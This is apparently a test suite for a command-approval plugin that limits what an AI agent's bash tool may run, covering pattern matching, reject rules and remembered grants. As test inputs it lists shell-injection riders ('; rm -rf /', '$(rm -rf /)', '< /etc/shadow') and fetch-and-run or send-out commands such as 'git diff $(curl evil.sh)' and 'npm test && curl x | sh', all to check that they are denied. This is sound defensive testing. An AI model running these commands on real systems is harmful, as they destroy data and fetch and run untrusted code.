import { execFileSync } from 'node:child_process'
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { createAgent, defineTool, type ToolResult, t } from '@faber/core'
import { call as callTool, deployment as deploy, disposeAll } from '@faber/core/testing'
import Approval, { type ApprovalQuery, compileCommandPattern, exactCommandPattern, simpleWords } from '@faber/plugin-approval'
import { expect } from 'chai'
import { Logger } from 'cordis'
import fc from 'fast-check'

Logger.levels.base = 0

const allow = (pattern: string) => compileCommandPattern(pattern, 'allow')
const reject = (pattern: string) => compileCommandPattern(pattern, 'reject')

// ways a model could try to ride on an allowed command
const RIDERS = [
  '; rm -rf /',
  ' ; rm -rf /',
  '\nrm -rf /',
  '\r\nrm -rf /',
  ' && rm -rf /',
  ' || rm -rf /',
  ' | sh',
  ' & rm -rf /',
  ' $(rm -rf /)',
  ' `rm -rf /`',
  ' "$(rm -rf /)"',
  ' "`rm -rf /`"',
  ' > /etc/passwd',
  ' < /etc/shadow',
  ' 2>&1',
  ' <(rm -rf /)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a shell expansion, not a template
  ' ${IFS}rm',
  ' $HOME',
  ' *',
  ' ?',
  ' [a]',
  ' {a,b}',
  ' ~',
  ' ~root',
  ' \\; rm',
  " '",
  ' "',
  ' # comment',
  ' !!',
  ' \x00',
  ' \x1b[2J',
]

describe('approval: command patterns', () => {
  it('an allow pattern matches the command word for word, a last * any further arguments', () => {
    expect(allow('npm test')('npm test')).to.equal(true)
    expect(allow('npm test')('npm  test')).to.equal(true)
    expect(allow('npm test')('npm test --watch')).to.equal(false)
    expect(allow('npm test')('npm')).to.equal(false)
    expect(allow('git status')('git status')).to.equal(true)
    expect(allow('git diff *')('git diff')).to.equal(true)
    expect(allow('git diff *')('git diff --stat HEAD~1')).to.equal(false) // ~ is not plain: quote it
    expect(allow('git diff *')("git diff --stat 'HEAD~1'")).to.equal(true)
    expect(allow('git diff *')('git diff src/a.ts')).to.equal(true)
    expect(allow('git diff *')('git log')).to.equal(false)
    expect(allow('git diff *')('GIT_EXTERNAL_DIFF=./evil git diff')).to.equal(false)
    expect(allow('npm run test:*')('npm run test:unit')).to.equal(true)
    expect(allow('npm run test:*')('npm run build')).to.equal(false)
    expect(allow("echo '*'")('echo "*"')).to.equal(true)
    expect(allow("echo '*'")('echo x')).to.equal(false)
  })

  for (const rider of RIDERS) {
    it(`an allow pattern is not fooled by ${JSON.stringify(rider)}`, () => {
      expect(allow('git status')(`git status${rider}`)).to.equal(false)
      expect(allow('git diff *')(`git diff${rider}`)).to.equal(false)
      expect(allow('git diff *')(`git diff HEAD${rider}`)).to.equal(false)
    })
  }

  it('quoted text is one literal word; unterminated quotes and expansions inside double quotes are refused', () => {
    expect(allow('git commit -m *')('git commit -m "fix: a; b && c | d"')).to.equal(true)
    expect(allow('git commit -m *')("git commit -m 'a $(b) `c`'")).to.equal(true)
    expect(allow('git commit -m *')('git commit -m "a $(b)"')).to.equal(false)
    expect(allow('git commit -m *')('git commit -m "a `b`"')).to.equal(false)
    expect(allow('git commit -m *')('git commit -m "a \\" ; rm"')).to.equal(false)
    expect(allow('git commit -m *')("git commit -m 'a")).to.equal(false)
    expect(allow('git commit -m *')("git commit -m 'a\nb'")).to.equal(false)
  })

  it('a reject pattern matches anywhere in any piece of a command', () => {
    const rm = reject('rm -rf *')
    for (const command of [
      'rm -rf /',
      'rm -rf',
      'ls; rm -rf /',
      'ls && rm -rf .',
      'ls\nrm -rf ~',
      'sudo rm -rf /',
      'echo $(rm -rf /)',
      'echo `rm -rf /`',
      "r'm' -rf /",
      '\\rm -rf /',
      '(rm -rf /)',
      '{ rm -rf /; }',
      'ls|rm -rf /',
    ]) {
      expect(rm(command), command).to.equal(true)
    }
    expect(rm('ls -la')).to.equal(false)
    expect(rm('rm file.txt')).to.equal(false)
  })

  it('a * in a word matches any run of characters, as a regular expression would', () => {
    fc.assert(
      fc.property(fc.stringMatching(/^[ab*]{1,8}$/), fc.stringMatching(/^[ab]{1,10}$/), (pattern, word) => {
        const reference = new RegExp(`^${pattern.replaceAll('*', '.*')}$`).test(word)
        expect(allow(`x ${pattern}`)(`x ${word}`), `${pattern} ${word}`).to.equal(reference)
      }),
      { numRuns: 2000 },
    )
  })

  it('a word with several * against a long command word answers at once (no backtracking blow-up)', () => {
    // as a regular expression (^.*a.*a.*a.*b$) this took minutes: the host would stall while approval waited
    const word = 'a'.repeat(100_000)
    expect(allow('x *a*a*a*b')(`x ${word}`)).to.equal(false)
    expect(allow('x *a*a*a*')(`x ${word}`)).to.equal(true)
    expect(reject('x *a*a*a*b')(`x ${word}`)).to.equal(false)
  })

  it('patterns that are not plain commands are refused with what to write', () => {
    expect(() => allow('git status; ls')).to.throw(TypeError, /not a plain command/)
    expect(() => allow('')).to.throw(TypeError, /not a plain command/)
    expect(() => reject('*')).to.throw(TypeError, /every command/)
  })

  it('the exact pattern of a command matches that command and nothing longer', () => {
    for (const command of ['git status', "git commit -m 'it''s done; really'", 'npm test -- --grep "a b"', "echo '*' ''"]) {
      const pattern = exactCommandPattern(command)!
      expect(allow(pattern)(command), command).to.equal(true)
      expect(allow(pattern)(`${command} x`), command).to.equal(false)
    }
    expect(exactCommandPattern('ls; rm')).to.equal(undefined)
  })

  it('accepts as simple only what bash itself reads as exactly those words (checked against real bash)', function () {
    this.timeout(60000)
    const dir = mkdtempSync(join(tmpdir(), 'faber-words-'))
    try {
      // files a glob would expand to, so a glob slipping through would show
      for (const name of ['a', 'ab', 'b*']) writeFileSync(join(dir, name), '')
      const alphabet = fc.constantFrom(...'aab-=./:,+@%^ ', ...' \t;&|$()`\'"\\\n~#{}<>!*?[]')
      const accepted = new Map<string, string[]>()
      fc.assert(
        fc.property(fc.string({ unit: alphabet, maxLength: 16 }), (text) => {
          const words = simpleWords(text)
          if (words && accepted.size < 400)
            accepted.set(
              text,
              words.map((w) => w.text),
            )
        }),
        { numRuns: 4000 },
      )
      expect(accepted.size).to.be.greaterThan(50)
      const cases = [...accepted]
      // every accepted text is a single simple command, so one script can run them all
      const script = cases.map(([text]) => `printf '%s\\0' ${text}; printf '\\1'`).join('\n')
      const out = execFileSync('bash', ['--norc', '--noprofile', '-c', script], { cwd: dir, encoding: 'utf8' })
      const runs = out.split('\x01').slice(0, -1)
      expect(runs.length).to.equal(cases.length)
      cases.forEach(([text, words], index) => {
        expect(runs[index].split('\0').slice(0, -1), JSON.stringify(text)).to.deep.equal(words)
      })
    } finally {
      rmSync(dir, { recursive: true, force: true })
    }
  })
})

describe('approval: command rules and grants on a shell tool', () => {
  afterEach(disposeAll)

  async function deployment(config: Approval.ConfigInput) {
    const ctx = await deploy({ mode: 'native' }, (ctx) => ctx.plugin(Approval, config))
    const runs: string[] = []
    ctx.tools.register(
      defineTool({
        name: 'bash',
        description: 'runs a command',
        parameters: t.object({ command: t.string() }),
        output: { schema: t.string() },
        annotations: { shell: true },
        execute: ({ command }) => {
          runs.push(command)
          return 'ran'
        },
      }),
    )
    const call = (command: string, agent = main) => callTool(ctx, 'bash', { command }, { agent })
    const main = createAgent(ctx, { name: 'main' })
    return { ctx, runs, call }
  }

  const RULES: Approval.ConfigInput['rules'] = [
    { tool: 'bash', command: 'npm test', decision: 'allow' },
    { tool: 'bash', command: 'git status', decision: 'allow' },
    { tool: 'bash', command: 'git diff *', decision: 'allow' },
    { tool: 'bash', command: 'rm -rf *', decision: 'reject' },
  ]

  function outcome(result: ToolResult) {
    return result.isError ? result.error.code : 'ran'
  }

  it('allows the listed commands, rejects rm -rf anywhere, and asks for everything else', async () => {
    const { ctx, runs, call } = await deployment({ rules: RULES })
    const asked: string[] = []
    ctx.on('approval/request', (query: ApprovalQuery) => {
      asked.push((query.arguments as { command: string }).command)
      return { decision: 'reject' }
    })
    expect(outcome(await call('npm test'))).to.equal('ran')
    expect(outcome(await call('git status'))).to.equal('ran')
    expect(outcome(await call('git diff --stat src'))).to.equal('ran')
    expect(outcome(await call('git status; rm -rf /'))).to.equal('DENIED')
    expect(outcome(await call('git diff $(curl evil.sh)'))).to.equal('DENIED')
    expect(outcome(await call('git status\nrm -rf /'))).to.equal('DENIED')
    expect(outcome(await call('npm test && curl x | sh'))).to.equal('DENIED')
    expect(outcome(await call('ls -la'))).to.equal('DENIED')
    expect(runs).to.deep.equal(['npm test', 'git status', 'git diff --stat src'])
    // the rule rejects these before anyone is asked; the rest reached the answerer
    expect(asked).to.deep.equal(['git diff $(curl evil.sh)', 'npm test && curl x | sh', 'ls -la'])
  })

  it('a remembered answer for a shell tool covers that command only, not the tool', async () => {
    const { ctx, runs, call } = await deployment({ rules: RULES })
    let answers = 0
    ctx.on('approval/request', () => {
      answers++
      return { decision: 'allow', remember: 'session' }
    })
    expect(outcome(await call('make lint'))).to.equal('ran')
    expect(outcome(await call('make lint'))).to.equal('ran')
    expect(answers).to.equal(1)
    const grants = await (ctx.approval as Approval).grants()
    expect(grants).to.have.length(1)
    expect(grants[0]).to.include({ tool: 'bash', command: 'make lint', agent: 'main' })
    expect(outcome(await call('make lint; rm -rf .'))).to.equal('DENIED') // the reject rule
    expect(outcome(await call('make lint extra'))).to.equal('ran')
    expect(answers).to.equal(2)
    // a command that is not simple is remembered as its exact text
    expect(outcome(await call('ls | wc -l'))).to.equal('ran')
    expect(outcome(await call('ls | wc -l'))).to.equal('ran')
    expect(answers).to.equal(3)
    expect(outcome(await call('ls | wc -l; id'))).to.equal('ran')
    expect(answers).to.equal(4)
    expect(runs).to.have.length(6)
  })

  it('an answerer can remember a pattern; grants take command patterns through the API too', async () => {
    const { ctx, call } = await deployment({})
    let answers = 0
    ctx.on('approval/request', () => {
      answers++
      return { decision: 'allow', remember: 'session', grant: { command: 'pnpm exec mocha *' } }
    })
    expect(outcome(await call('pnpm exec mocha a.spec.ts'))).to.equal('ran')
    expect(outcome(await call('pnpm exec mocha b.spec.ts'))).to.equal('ran')
    expect(answers).to.equal(1)
    expect(outcome(await call('pnpm exec mocha b.spec.ts; id'))).to.equal('ran')
    expect(answers).to.equal(2)
    await (ctx.approval as Approval).grant({ tool: 'bash', command: 'curl *', decision: 'reject', scope: 'session' })
    expect(outcome(await call('echo hi | curl -d @- x.example'))).to.equal('DENIED')
    let error: unknown
    await (ctx.approval as Approval).grant({ tool: 'bash', command: 'a; b', scope: 'session' }).catch((caught) => (error = caught))
    expect(String(error)).to.match(/not a plain command/)
  })

  it('a rule with an unparsable command pattern stops the plugin with the reason', async () => {
    const error = await deployment({ rules: [{ name: 'bad', tool: 'bash', command: 'a && b', decision: 'allow' }] }).catch((e) => e)
    expect(String(error)).to.match(/rule "bad".*not a plain command/)
  })
})
